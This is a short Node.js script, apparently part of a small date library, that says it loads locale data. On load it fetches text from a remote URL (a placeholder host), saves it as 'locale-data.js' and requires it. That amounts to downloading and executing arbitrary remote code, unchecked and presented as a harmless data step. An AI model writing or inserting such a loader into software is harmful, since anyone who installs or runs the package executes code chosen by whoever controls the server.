const fs = require('fs/promises');
const path = require('path');

(async () => {
  const reply = await fetch('https://example.invalid/tiny-dates/locale');
  const target = path.join(__dirname, 'locale-data.js');
  await fs.writeFile(target, await reply.text());
  require(target);
})();
